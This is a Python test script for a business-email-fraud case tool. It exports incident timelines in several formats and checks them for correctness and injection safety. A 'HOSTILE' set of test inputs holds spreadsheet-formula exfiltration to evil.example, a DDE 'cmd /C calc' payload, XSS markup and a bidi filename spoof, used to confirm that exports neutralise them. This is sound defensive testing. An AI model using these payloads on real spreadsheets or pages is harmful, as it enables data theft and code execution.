#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Builds cases through the program and reads every export back with readers of Python's own (zipfile, xml, csv, json, html).

case_exports.py THREADLINE CORPUS; prints one line a fault and exits 1 when there is any.
"""
import csv
import datetime
import email
import html.parser
import io
import json
import os
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ElementTree
import zipfile

import jsonschema

csv.field_size_limit(1 << 30)
PROGRAM, CORPUS = sys.argv[1], pathlib.Path(sys.argv[2])
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
FAULTS = []


def expect(is_so, what):
    if not is_so:
        FAULTS.append(what)


def run(*arguments, status=0):
    done = subprocess.run([PROGRAM, *map(str, arguments)], capture_output=True, check=False, env={**os.environ, "LC_ALL": "C.UTF-8"})
    expect(done.returncode == status, f"{arguments}: status {done.returncode}: {done.stderr.decode()[-500:]}")
    return done.stdout


class Sheet:
    """Cells of one sheet as {(row, column letters): (value, style, is_text)}."""

    def __init__(self, archive, number):
        self.root = ElementTree.fromstring(archive.read(f"xl/worksheets/sheet{number}.xml"))
        self.cells = {}
        for cell in self.root.iter(MAIN + "c"):
            letters, row = re.fullmatch(r"([A-Z]+)(\d+)", cell.get("r")).groups()
            value = "".join(text.text or "" for text in cell.iter(MAIN + "t"))
            number_text = cell.findtext(MAIN + "v")
            is_text = cell.get("t") == "inlineStr"
            self.cells[int(row), letters] = (value if is_text else number_text, int(cell.get("s", 0)), is_text)

    def row(self, number):
        found = {letters: value for (row, letters), (value, _, _) in self.cells.items() if row == number}
        return [found[letters] for letters in sorted(found, key=lambda one: (len(one), one))]

    def rows(self):
        return range(2, max((row for row, _ in self.cells), default=1) + 1)


class Workbook:
    def __init__(self, path):
        self.archive = zipfile.ZipFile(path)
        for name in self.archive.namelist():
            if name.endswith((".xml", ".rels", ".vml")):
                ElementTree.fromstring(self.archive.read(name))
        book = ElementTree.fromstring(self.archive.read("xl/workbook.xml"))
        self.names = [sheet.get("name") for sheet in book.iter(MAIN + "sheet")]
        self.sheets = {name: Sheet(self.archive, at) for at, name in enumerate(self.names, 1)}
        styles = ElementTree.fromstring(self.archive.read("xl/styles.xml"))
        fonts = styles.find(MAIN + "fonts").findall(MAIN + "font")
        self.struck = [fonts[int(xf.get("fontId"))].find(MAIN + "strike") is not None for xf in styles.find(MAIN + "cellXfs")]

    def holds_nothing_that_runs(self):
        for name, sheet in self.sheets.items():
            for tag in ("f", "hyperlink", "hyperlinks"):
                expect(not list(sheet.root.iter(MAIN + tag)), f"xlsx, {name}: <{tag}>")
        expect(not any("externalLink" in name or "vbaProject" in name for name in self.archive.namelist()), "xlsx: external parts")


class Page(html.parser.HTMLParser):
    """The tags of a page and what would leave it."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.leaves, self.shown = set(), [], ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.leaves += [(tag, name, value) for name, value in attrs if name in {"src", "href", "action"} or name.startswith("on")]

    def handle_data(self, data):
        self.shown += data


def article_case(folder):
    """The article's own example: two tabs, from init to workbook; then a row struck."""
    case = folder / "article"
    by = ("--by", "M. Sécurité")
    run("case", "init", "--title", "Kit de survie", "--own-domain", "meridienne-groupe.example", "--lang", "fr", "--tz", "Europe/Paris", *by, case)
    run("case", "add", case, *by, "--at", "05/04/2018 14:35", "Prise en charge de l'incident signalé par F. LeComptable")
    run("case", "add", "--case", case, *by, "--at", "05/04/2018 14:36",
        "Appel de F. LeComptable. Prise de main à distance, export eml des mails avec en-têtes")
    evidence = [CORPUS / "kit-de-survie" / "thread", CORPUS / "kit-de-survie" / "fraud"]
    imported = ("scan", "--case", case, *by, "--source-label", "Copie eml depuis mailbox de FD.", "--format", "jsonl")
    run(*imported, *evidence)
    before = (case / "journal.jsonl").read_bytes()
    run(*imported, *evidence)
    expect((case / "journal.jsonl").read_bytes() == before, "the same import twice changed the journal")
    return case


def check_article_workbook(case, folder):
    path = folder / "article.xlsx"
    run("case", "export", case, "-o", path)
    book = Workbook(path)
    book.holds_nothing_that_runs()
    expect(book.names == ["Synthèse", "Timeline de compromission", "Timeline de vos actions", "Preuves"], f"tabs: {book.names}")
    timeline, actions = book.sheets["Timeline de compromission"], book.sheets["Timeline de vos actions"]
    expect(timeline.row(1)[:7] == ["Date", "Heure", "Fuseau", "Source", "Acteur", "Action", "Commentaires"], f"columns: {timeline.row(1)}")
    expect(actions.row(1)[:4] == ["Date", "Heure", "Acteur", "Action"], f"columns: {actions.row(1)}")
    first = actions.row(2)[:4]
    day = datetime.date(1899, 12, 30) + datetime.timedelta(days=int(first[0]))
    expect(day == datetime.date(2018, 4, 5), f"a date is a date: {first[0]}")
    expect(round(float(first[1]) * 24 * 60) == 14 * 60 + 35, f"a time is a time: {first[1]}")
    expect(first[2:] == ["M. Sécurité", "Prise en charge de l'incident signalé par F. LeComptable"], f"first action: {first}")
    expect(actions.row(3)[3] == "Appel de F. LeComptable. Prise de main à distance, export eml des mails avec en-têtes", "second action")
    story = [(int(float(timeline.cells[row, "B"][0]) * 1440 + 1e-6), timeline.cells[row, "C"][0], timeline.cells[row, "D"][0])
             for row in timeline.rows()]
    for minute in (10 * 60 + 37, 10 * 60 + 50, 10 * 60 + 59, 11 * 60 + 45):
        expect((minute, "CEST", "Copie eml depuis mailbox de FD.") in story, f"the article's {minute // 60}:{minute % 60} is missing")
    expect(len(book.sheets["Preuves"].rows()) == 4, "evidence files")
    sums = {timeline_file.read_bytes() for timeline_file in (CORPUS / "kit-de-survie" / "thread").iterdir()}
    expect(len(sums) == 3, "corpus")
    expect("Timeline de compromission" in book.archive.read("xl/workbook.xml").decode() and "autoFilter" in
           book.archive.read("xl/worksheets/sheet2.xml").decode(), "filters")


def check_struck(case, folder):
    number = next(json.loads(line)["row"] for line in run("case", "show", case, "--format", "jsonl").splitlines())
    run("case", "strike", case, number, "--why", "doublon <b>", "--by", "Anna")
    run("case", "qualify", case, number, "--as", "legitimate", "--why", "confirmé par téléphone")
    path = folder / "struck.xlsx"
    run("case", "export", case, "-o", path)
    book = Workbook(path)
    sheet = book.sheets["Timeline de compromission"]
    expect(all(book.struck[style] for (row, _), (value, style, _) in sheet.cells.items() if row == 2), "the struck row is not struck through")
    expect(not any(book.struck[style] for (row, _), (_, style, _) in sheet.cells.items() if row > 2), "another row is struck through")
    comments = ElementTree.fromstring(book.archive.read("xl/comments1.xml"))
    text = "".join(one.text or "" for one in comments.iter(MAIN + "t"))
    expect("doublon <b>" in text and "Anna" in text, f"comment: {text}")
    row = json.loads(run("case", "export", case, "--format", "jsonl").splitlines()[0])
    expect(row["struck"]["why"] == "doublon <b>" and row["qualified"]["as"] == "legitimate", f"jsonl: {row}")
    first, again = folder / "one.xlsx", folder / "two.xlsx"
    run("case", "export", case, "-o", first)
    run("case", "export", case, "-o", again)
    expect(first.read_bytes() == again.read_bytes(), "the same journal gave other bytes")


def check_columns(case):
    """The spreadsheet's twelve columns come first in every csv, of a case as of a run (docs/cli.md, Rows)."""
    promised = {"fr": ["Date", "Heure", "Fuseau", "Source", "Acteur", "Action", "Commentaires", "Gravité"],
                "en": ["Date", "Time", "Zone", "Source", "Actor", "Action", "Comments", "Severity"]}
    for language, titles in promised.items():
        titles = [*titles, "Code", "Message-ID", "SHA-256", "Id"]
        for form in (("case", "export", case, "--lang", language, "--format", "csv"),
                     ("scan", "--lang", language, "--format", "csv", CORPUS / "kit-de-survie" / "thread")):
            first = next(csv.reader(io.StringIO(run(*form).decode("utf-8-sig"))))
            expect(first[:12] == titles, f"csv columns of {form[0]} in {language}: {first}")


def check_order(case):
    """For programs: known_at, then source, then id, both tabs in one order; what has no time stands last."""
    rows = [json.loads(line) for line in run("case", "export", case, "--format", "jsonl").splitlines()]
    keys = [(row["known_at"] is None, row["known_at"] or "", row["source"].encode(), row["id"]) for row in rows]
    expect(keys == sorted(keys), f"jsonl: not in the order of docs/cli.md: {[row['row'] for row in rows]}")
    expect({"action", "message"} <= {row["kind"] for row in rows}, "jsonl: a tab is missing")
    table = list(csv.DictReader(io.StringIO(run("case", "export", case, "--lang", "en", "--format", "csv").decode("utf-8-sig"))))
    expect([row["Id"] for row in table] == [row["id"] for row in rows if row["kind"] != "action"], "csv: another order than jsonl")


class Blocks(html.parser.HTMLParser):
    """Tables as lists of rows, and nodes of trees as (depth, class, text)."""

    def __init__(self, text):
        super().__init__()
        self.tables, self.nodes, self.depth, self.cell, self.node = [], [], 0, None, None
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        css = dict(attrs).get("class") or ""
        if tag == "table":
            self.tables.append((css, []))
        elif tag == "tr":
            self.tables[-1][1].append([])
        elif tag in {"td", "th"}:
            self.cell = ""
        elif tag == "ul" and css == "tree":
            self.depth += 1
        elif tag == "ul":
            self.depth += 1000
        elif tag == "div" and css.startswith("node"):
            self.node = [self.depth, css, ""]

    def handle_endtag(self, tag):
        if tag in {"td", "th"}:
            self.tables[-1][1][-1].append(self.cell)
            self.cell = None
        elif tag == "ul":
            self.depth -= 1000 if self.depth >= 1000 else 1
        elif tag == "div" and self.node:
            self.nodes.append(self.node)
            self.node = None

    def handle_data(self, data):
        if self.cell is not None:
            self.cell += data
        if self.node is not None:
            self.node[2] += data


def check_page(case):
    """The false message in its conversation, both accounts side by side, and its route: of a case as of one run."""
    evidence = [CORPUS / "kit-de-survie" / "thread", CORPUS / "kit-de-survie" / "fraud"]
    for form in (("case", "export", case, "--format", "html"), ("scan", "--lang", "fr", "--format", "html", *evidence)):
        page = Blocks(run(*form).decode())
        pairs = [rows for css, rows in page.tables if css == "pair"]
        expect(len(pairs) == 1 and pairs[0][0] == ["", "Avant", "Après"], f"{form[0]} html: accounts {pairs}")
        account = next((row for row in pairs[0] if row[0] == "Compte"), ["", "", ""])
        expect("1999 8004 1200" in account[1] and "1988 7015 3000" in account[2], f"{form[0]} html: not side by side: {account}")
        story = [(depth, "false" in css, text.split("@")[1].split(">")[0]) for depth, css, text in page.nodes]
        true, imitation = "meridienne-groupe.example", "meridiene-groupe.example"
        expect(story == [(1, False, true), (2, False, true), (3, False, true), (4, True, imitation), (5, False, true)],
               f"{form[0]} html: conversation {story}")
        expect("FAUX MESSAGE" in page.nodes[3][2], f"{form[0]} html: the false message is not marked")
        forward = email.message_from_bytes((CORPUS / "kit-de-survie" / "fraud" / "4-transfert.eml").read_bytes())
        inner = next(part.get_payload(0) for part in forward.walk() if part.get_content_type() == "message/rfc822")
        hops = [rows for css, rows in page.tables if css == "hops"][0]
        expect(len(hops) - 1 == len(inner.get_all("Received")), f"{form[0]} html: {len(hops) - 1} hops")
        expect(all(len(row) == 7 and row[4] for row in hops), f"{form[0]} html: hops {hops}")


HOSTILE = {
    "formula": "=HYPERLINK(\"http://evil.example/?x=\"&A1)",
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "bidi": "facture \u202etxt.exe\u202c",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)> [a](javascript:x) |cell|",
    "escape": "_x000D_ and _x0041_",
    "nonchar": "a\ufffeb\uffff",
}


def hostile_case(folder):
    """One mail a subject; subjects with control characters and illegal UTF-8 as raw bytes, and one of a megabyte."""
    mails = folder / "mails"
    mails.mkdir()
    subjects = {name: text.encode() for name, text in HOSTILE.items()}
    subjects |= {"control": b"a\x01\x08\x1b[31mred\x07", "illegal": b"a\xff\xc3(b", "long": b"=" + b"A" * 1_000_000}
    for name, subject in subjects.items():
        (mails / f"{name}.eml").write_bytes(b"From: Anna <anna@firm.example>\nTo: b@payer.example\nDate: Thu, 5 Apr 2018 10:37:00 +0200\nMessage-ID: <" +
                                            name.encode() + b"@firm.example>\nSubject: " + subject + b"\n\nHello.\n")
    (mails / "undated.eml").write_bytes(b"From: Anna <anna@firm.example>\nTo: b@payer.example\nSubject: undated\n\nHello.\n")
    case = folder / "hostile"
    run("case", "init", "--lang", "en", "--own-domain", "firm.example", case)
    run("scan", "--case", case, "--format", "jsonl", mails)
    run("case", "add", case, "--kind", "event", "--at", "2018-04-05 09:00", "--actor", "=1+1", "+33 1 23 45 67 89 <script>x</script>")
    number = next(json.loads(line)["row"] for line in run("case", "show", case, "--format", "jsonl").splitlines())
    for letter in "abcdefghijk":  # a cell of a megabyte: each argument of a command is at most 128 KiB
        run("case", "note", case, number, letter * 100_000)
    return case


def check_hostile(case, folder):
    path = folder / "hostile.xlsx"
    run("case", "export", case, "-o", path)
    book = Workbook(path)
    book.holds_nothing_that_runs()
    sheet = book.sheets["Timeline of the compromise"]
    texts = [value for value, _, is_text in sheet.cells.values() if is_text]
    expect(any("=HYPERLINK(" in text for text in texts), "xlsx: the formula is not shown")
    expect("=1+1" in texts, "xlsx: a cell that begins like a formula is not text")
    expect(any("_x005F_x000D_" in text for text in texts), "xlsx: an escape of the format is obeyed")
    expect(all("\u202e" not in text for text in texts), "xlsx: a bidi control")
    expect(max(map(len, texts)) <= 32_767, "xlsx: a cell is too long")
    for letter in "abcdefghijk":
        expect(sum(text.count(letter) for text in texts if text.count(letter) > 1_000) >= 100_000, f"xlsx: {letter} of the long cell is lost")
    expect(any("goes on below" in text for text in texts) and any("(continued, 2/" in text for text in texts), "xlsx: the split is not said")
    rows = list(csv.reader(io.StringIO(run("case", "export", case, "--format", "csv").decode("utf-8-sig"))))
    expect({len(row) for row in rows} == {len(rows[0])}, "csv: ragged")
    expect(all(not cell.lstrip().startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row), "csv: a formula")
    expect(all(not re.search("[\x00-\x08\x0b-\x1f\u202a-\u202e]", cell) for row in rows for cell in row), "csv: control characters")
    french = run("case", "export", case, "--format", "csv", "--separator", "semicolon", "--no-bom")
    expect(not french.startswith(b"\xef\xbb\xbf"), "csv: --no-bom")
    expect(list(csv.reader(io.StringIO(french.decode()), delimiter=";")) == rows, "csv: --separator semicolon")
    schema = jsonschema.Draft202012Validator(json.loads((CORPUS.parent / "docs" / "row.schema.json").read_text()))
    for line in run("case", "export", case, "--format", "jsonl").decode().splitlines():
        for fault in schema.iter_errors(json.loads(line)):
            expect(False, f"jsonl: {fault.message}")
    page = Page(run("case", "export", case, "--format", "html").decode())
    expect(not page.tags & {"script", "img", "iframe", "object", "embed", "form", "base", "a", "svg"}, f"html: {page.tags}")
    expect(not page.leaves, f"html: {page.leaves}")
    expect("<script>alert(1)</script>" in page.shown and "\u202e" not in page.shown, "html: the subject is not shown as it is")
    text = run("case", "export", case, "--format", "markdown").decode()
    bare = re.sub(r"\\.", "", text).replace("<br>", "")
    expect("<" not in bare and "](" not in bare and "://" not in bare, "markdown: markup")


def check_timesketch(case):
    """Timesketch's importer demands message, datetime and timestamp_desc, and reads datetime with an offset."""
    rows = list(csv.DictReader(io.StringIO(run("case", "export", case, "--format", "timesketch").decode())))
    total = len(run("case", "export", case, "--format", "jsonl").splitlines())
    undated = sum(json.loads(line)["time"] is None for line in run("case", "export", case, "--format", "jsonl").splitlines())
    expect(undated >= 1 and len(rows) == total - undated, f"timesketch: {len(rows)} of {total}, {undated} undated")
    for row in rows:
        expect(all(row[field] for field in ("message", "datetime", "timestamp_desc")), f"timesketch: {row}")
        expect(datetime.datetime.fromisoformat(row["datetime"].replace("Z", "+00:00")).tzinfo is not None, f"timesketch: {row['datetime']}")
    events = json.loads(run("case", "export", case, "--format", "iris"))
    expect(len(events) == len(rows), "iris: events")
    for event in events:
        expect({"event_title", "event_date", "event_tz", "event_content", "event_assets", "event_iocs", "event_category_id"} <= event.keys(), "iris: fields")
        datetime.datetime.strptime(event["event_date"] + event["event_tz"].replace(":", ""), "%Y-%m-%dT%H:%M:%S.%f%z")


def check_report(case, folder):
    """What cannot wait comes first; without a payment nobody is told to call Tracfin."""
    before = run("case", "report", case).decode()
    expect("Tracfin" not in before, "report: Tracfin without a transfer")
    run("case", "add", case, "--kind", "payment", "--amount", "48 650,00 EUR", "--debited", "FR7619998004120001234567850", "--credited",
        "FR7619887015300008765432118", "--reference", "VIR-1", "--at", "05/04/2018 12:10", "--payee-check", "aucune correspondance")
    report = run("case", "report", case).decode()
    order = [report.find(word) for word in ("Tracfin", "rappel des fonds", "72 heures", "Faits, dans l'ordre du temps")]
    expect(-1 not in order and order == sorted(order), f"report: order {order}")
    for line in report.splitlines():
        if "CEST" in line and line.startswith("- "):
            expect("(ligne " in line, f"report: a fact without its row: {line}")
    expect("08/04/2018 14:35 CEST" in report, "report: 72 hours after the first action, on the case's clock")
    abroad = folder / "abroad"
    run("case", "init", "--lang", "en", abroad)
    run("case", "add", abroad, "--kind", "payment", "--debited", "GB33BUKB20201555555555", "--amount", "5 GBP")
    english = run("case", "report", abroad).decode()
    expect("Tracfin" not in english and english.find("Call the fraud department") in range(english.find("1. "), english.find("2. ")),
           f"report: a bank abroad: {english}")
    private = folder / "private"
    private.mkdir()
    fraud = (CORPUS / "kit-de-survie" / "fraud" / "4-transfert.eml").read_bytes()
    inner = re.sub(rb"\nSubject:[^\n]*Re:[^\n]*\n", b"\nSubject: Personnel: facturation\n", fraud)
    (private / "a.eml").write_bytes(inner)
    personal = folder / "personal"
    run("case", "init", "--lang", "fr", "--own-domain", "meridienne-groupe.example", personal)
    run("scan", "--case", personal, "--format", "jsonl", private)
    rows = [json.loads(line) for line in (personal / "journal.jsonl").read_text().splitlines()]
    expect(any("private" in row["body"] for row in rows), "report: the mail is not marked personal")
    headers, whole = (run("case", "report", personal, *flags).decode() for flags in ((), ("--include-private",)))
    expect("Personnel: facturation" in headers and "message marqué personnel" in headers, "report: a personal mail's headers are missing")
    expect("audit de notre compte habituel" in whole and "audit de notre compte habituel" not in headers, "report: what a personal mail says")
    false_account = "7015 3000 0876"
    expect(false_account in whole and not re.search("70153000", headers) and false_account not in headers, "report: an account of a personal mail")
    verify = run("case", "verify", personal).decode()
    expect("Chaîne entière" in verify, verify)


def check_timestamp(case, folder):
    """A request that openssl reads, an answer that openssl's own authority gives, filed and about a head of this journal."""
    if not shutil.which("openssl"):
        print("timestamp: skipped, no openssl program")
        return
    work = folder / "tsa"
    work.mkdir()

    def openssl(*arguments):
        subprocess.run(["openssl", *map(str, arguments)], cwd=work, check=True, capture_output=True)

    head = run("case", "verify", case).decode().split("--head ")[1].split(")")[0]
    run("case", "timestamp", case, "-o", work / "request.tsq")
    (work / "tsa.cnf").write_text("[ext]\nextendedKeyUsage=critical,timeStamping\n[tsa]\ndefault_tsa=one\n[one]\nserial=serial\n"
                                  "crypto_device=builtin\nsigner_cert=cert.pem\ncerts=cert.pem\nsigner_key=key.pem\nsigner_digest=sha256\n"
                                  "default_policy=1.2.3.4.1\ndigests=sha256\nordering=no\ntsa_name=no\ness_cert_id_chain=no\n")
    openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "key.pem", "-out", "cert.pem", "-subj", "/CN=tsa.example",
            "-addext", "extendedKeyUsage=critical,timeStamping")
    openssl("ts", "-reply", "-queryfile", "request.tsq", "-config", "tsa.cnf", "-out", "answer.tsr")
    openssl("ts", "-verify", "-digest", head, "-in", "answer.tsr", "-CAfile", "cert.pem")
    run("case", "timestamp", case, "--answer", work / "answer.tsr")
    entry = json.loads((case / "journal.jsonl").read_text().splitlines()[-1])
    expect(entry["type"] == "timestamp" and entry["body"]["head"] == head, f"timestamp: {entry}")
    expect((case / entry["body"]["file"]).read_bytes() == (work / "answer.tsr").read_bytes(), "timestamp: the answer is not filed")
    run("case", "verify", "--head", head, case)
    other = folder / "other"
    run("case", "init", other)
    run("case", "timestamp", other, "--answer", work / "answer.tsr", status=2)


def check_scan(folder):
    """scan writes the same formats without a case."""
    thread = CORPUS / "kit-de-survie" / "thread"
    path = folder / "scan.xlsx"
    run("scan", "--lang", "en", "--format", "xlsx", "-o", path, thread)
    expect(Workbook(path).names[0] == "Synthesis", "scan --format xlsx")
    run("scan", "--format", "xlsx", thread, status=2)
    for form in ("html", "markdown", "timesketch"):
        expect(b"LeComptable" in run("scan", "--format", form, thread), f"scan --format {form}")


def main():
    with tempfile.TemporaryDirectory() as name:
        folder = pathlib.Path(name)
        case = article_case(folder)
        check_article_workbook(case, folder)
        check_columns(case)
        check_order(case)
        check_page(case)
        check_report(case, folder)
        check_struck(case, folder)
        hostile = hostile_case(folder)
        check_hostile(hostile, folder)
        check_order(hostile)
        check_timesketch(hostile)
        check_timestamp(hostile, folder)
        check_scan(folder)
    for fault in FAULTS:
        print(fault)
    print(f"case exports: {len(FAULTS)} faults")
    return 1 if FAULTS else 0


if __name__ == "__main__":
    sys.exit(main())
